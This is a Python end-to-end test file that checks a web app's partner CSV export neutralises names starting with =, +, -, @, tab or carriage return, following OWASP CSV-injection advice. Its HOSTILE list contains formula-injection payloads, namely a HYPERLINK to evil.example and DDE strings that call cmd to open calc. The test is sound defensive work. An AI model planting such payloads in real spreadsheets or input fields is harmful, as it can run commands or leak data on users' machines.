"""A partner named ``=HYPERLINK("http://evil.example/?x","klik")`` went verbatim into
partner.csv, a file made for Excel, which runs such a cell as a formula. Every text cell of
every CSV is now neutralised as OWASP describes: a leading = + - @ tab or carriage return
gets a ``'`` in front, and text cells are quoted."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from bot.app import App
from tests.support.builders import make_draft
from tests.support.telegram_harness import T0
from tests.support.web_harness import PASSWORD, add_web_staff, post_login, web_service

pytestmark = pytest.mark.e2e

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x","klik")',
    "+31 SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def signals_for(app: App, codes: list[str]) -> None:
    async with app.store.unit_of_work() as uow:
        for code in codes:
            draft = make_draft(submitted_at=T0 - timedelta(days=3), partner=code)
            created = T0 - timedelta(days=3)
            await uow.signals.add(draft, reporter_id=None, channel="web", now=created)
        await uow.commit()


async def test_partner_names_that_look_like_formulas_stay_text_in_excel(tmp_path: Path) -> None:
    async with web_service(tmp_path, run_outbox=False) as svc:
        await add_web_staff(svc.app, "rita", role="regisseur")
        async with httpx.AsyncClient(base_url=svc.base_url) as browser:
            assert (await post_login(browser, "rita", PASSWORD, "/loket/")).status_code == 303
            for name in HOSTILE:
                page = (await browser.get("/loket/partners")).text
                csrf = re.search(r'name="csrf" value="([^"]+)"', page)
                assert csrf is not None
                added = await browser.post("/loket/partners", data={"csrf": csrf[1], "name": name})
                assert added.status_code == 303, added.text
            async with svc.app.store.unit_of_work() as uow:
                partners = {p.name: p.code for p in await uow.partners.all()}
            assert sorted(partners) == sorted(HOSTILE)
            await signals_for(svc.app, list(partners.values()))
            period = {"from": (T0 - timedelta(days=30)).date().isoformat()}
            period["to"] = T0.date().isoformat()
            body = (await browser.get("/loket/monitoring/partner.csv", params=period)).content
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header = rows[0]  # week, first day, last day, a column per partner (its name), total
    for name in HOSTILE:
        assert "'" + name in header
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    for name in HOSTILE:  # in the file, the cell is in quotes (a quote inside doubled)
        assert "\"'" + name.replace('"', '""') + '"' in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    from bot.dashboard.monitoring.csv_files import cell

    assert cell(start + "1+1") == "'" + start + "1+1"
    assert cell("Jumbo " + start) == "Jumbo " + start
    assert cell(-3) == -3  # a count is a number, not text
